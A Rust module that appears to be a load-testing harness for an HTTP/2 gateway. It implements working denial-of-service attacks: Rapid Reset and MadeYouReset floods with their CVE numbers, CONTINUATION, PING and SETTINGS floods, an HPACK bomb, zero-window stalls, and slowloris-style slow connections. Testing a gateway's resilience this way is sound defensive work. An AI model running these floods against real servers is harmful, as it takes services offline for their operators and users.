//! The attacks, each in a process of its own until that is ended.

use std::future::pending;
use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use clap::ValueEnum;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::spawn_local;
use tokio::time::sleep;

use super::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame, get, integer, text,
};

/// Connections of each attack by slowness.
const SLOW: usize = 500;

/// Connections of each flood, and how many frames each writes at once, after a pause.
const FLOODS: usize = 4;
const BATCH: u32 = 100;
const PAUSE: Duration = Duration::from_millis(5);

/// An attack ends after this time, if it has not been ended before.
const LONGEST: Duration = Duration::from_secs(60);

/// Variants in the order in which they are tried.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Attack {
    RapidReset,
    MadeYouReset,
    Continuation,
    Ping,
    Settings,
    HpackBomb,
    ZeroWindow,
    SlowHeads,
    SlowContent,
    SlowReaders,
    SlowPrefaces,
    Silence,
}

impl Attack {
    pub const fn what(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset of misses (CVE-2023-44487)",
            Self::MadeYouReset => "MadeYouReset (CVE-2025-8671)",
            Self::Continuation => "CONTINUATION flood",
            Self::Ping => "PING flood",
            Self::Settings => "SETTINGS flood",
            Self::HpackBomb => "HPACK bomb",
            Self::ZeroWindow => "zero windows",
            Self::SlowHeads => "500 slow heads",
            Self::SlowContent => "500 slow uploads",
            Self::SlowReaders => "500 readers that read nothing",
            Self::SlowPrefaces => "500 slow HTTP/2 prefaces",
            Self::Silence => "500 silent connections",
        }
    }

    const fn connections(self) -> usize {
        match self {
            Self::RapidReset
            | Self::MadeYouReset
            | Self::Continuation
            | Self::Ping
            | Self::Settings
            | Self::HpackBomb => FLOODS,
            Self::ZeroWindow => 20,
            _ => SLOW,
        }
    }
}

/// The process that attacks: whenever the gateway ends a connection, it opens another.
pub async fn attack(attack: Attack, addr: SocketAddr) -> io::Result<()> {
    rlimit::increase_nofile_limit(SLOW as u64 + 64)?;
    for number in 0..attack.connections() {
        spawn_local(async move {
            let mut round = 0;
            loop {
                round += 1;
                let _ = connection(attack, addr, (number << 20) + round).await;
                sleep(PAUSE).await;
            }
        });
    }
    println!("begun");
    sleep(LONGEST).await;
    Ok(())
}

/// One connection, until it ends.
async fn connection(attack: Attack, addr: SocketAddr, number: usize) -> io::Result<()> {
    let mut socket = TcpStream::connect(addr).await?;
    socket.set_nodelay(true)?;
    match attack {
        Attack::Silence => return until_closed(&mut socket).await,
        Attack::SlowHeads => {
            return trickle(&mut socket, b"GET /hit HTTP/1.1\r\nHost: lab\r\nX: ", b"x").await;
        }
        Attack::SlowContent => {
            let head = format!(
                "POST /upload/{number} HTTP/1.1\r\nHost: lab\r\nContent-Length: 1000000\r\n\r\n"
            );
            return trickle(&mut socket, head.as_bytes(), b"x").await;
        }
        Attack::SlowPrefaces => return trickle(&mut socket, b"PRI * ", b"").await,
        Attack::SlowReaders => {
            socket
                .write_all(b"GET /large HTTP/1.1\r\nHost: lab\r\n\r\n")
                .await?;
            return pending().await;
        }
        _ => {}
    }
    let mut start = PREFACE.to_vec();
    start.extend(frame(SETTINGS, 0, 0, &settings(attack)));
    socket.write_all(&start).await?;
    let (mut reading, mut writing) = socket.split();
    tokio::select! {
        // The answers are read, or it would end for that.
        ended = until_closed(&mut reading) => ended,
        ended = flood(attack, &mut writing, number) => ended,
    }
}

/// SETTINGS_INITIAL_WINDOW_SIZE, where that is what the attack is about.
fn settings(attack: Attack) -> Vec<u8> {
    match attack {
        Attack::ZeroWindow => vec![0, 4, 0, 0, 0, 0],
        _ => Vec::new(),
    }
}

async fn flood(
    attack: Attack,
    to: &mut (impl AsyncWriteExt + Unpin),
    number: usize,
) -> io::Result<()> {
    let mut stream = 1;
    loop {
        let mut batch = Vec::new();
        for _ in 0..BATCH {
            let path = format!("/miss/{number}/{stream}");
            let request = |path: &str| {
                let flags = END_HEADERS | END_STREAM;
                frame(HEADERS, flags, stream, &get(path))
            };
            match attack {
                Attack::RapidReset => {
                    batch.extend(request(&path));
                    batch.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
                }
                // RFC 9113 §6.9: an increment of 0 is a stream error, and so the gateway's own reset.
                Attack::MadeYouReset => {
                    batch.extend(request(&path));
                    batch.extend(frame(WINDOW_UPDATE, 0, stream, &[0; 4]));
                }
                Attack::Continuation if stream == 1 => {
                    batch.extend(frame(HEADERS, 0, 1, &get("/hit")));
                }
                Attack::Continuation => batch.extend(frame(CONTINUATION, 0, 1, &[])),
                Attack::Ping => batch.extend(frame(PING, 0, 0, &[7; 8])),
                Attack::Settings => batch.extend(frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0])),
                Attack::HpackBomb => batch.extend(bomb(stream)),
                _ => batch.extend(request("/large")),
            }
            stream += 2;
        }
        to.write_all(&batch).await?;
        if attack == Attack::ZeroWindow {
            return pending().await;
        }
        sleep(PAUSE).await;
    }
}

/// A request whose field section refers to one large field of the dynamic table a thousand times (RFC 7541 §7.3).
fn bomb(stream: u32) -> Vec<u8> {
    let mut block = get("/hit");
    if stream == 1 {
        block.push(0x40);
        text(&mut block, b"x");
        text(&mut block, &[b'x'; 3_000]);
    }
    for _ in 0..1_000 {
        // The newest of the dynamic table.
        integer(&mut block, 7, 0x80, 62);
    }
    frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
}

async fn until_closed(from: &mut (impl AsyncReadExt + Unpin)) -> io::Result<()> {
    let mut room = [0; 4096];
    while from.read(&mut room).await? > 0 {}
    Ok(())
}

/// An octet at a time after `start`, for as long as the gateway bears it; with nothing to send, silence.
async fn trickle(socket: &mut TcpStream, start: &[u8], octet: &[u8]) -> io::Result<()> {
    socket.write_all(start).await?;
    if octet.is_empty() {
        return until_closed(socket).await;
    }
    let (mut reading, mut writing) = socket.split();
    let writes = async {
        loop {
            sleep(Duration::from_secs(1)).await;
            writing.write_all(octet).await?;
        }
    };
    tokio::select! {
        ended = until_closed(&mut reading) => ended,
        ended = writes => ended,
    }
}
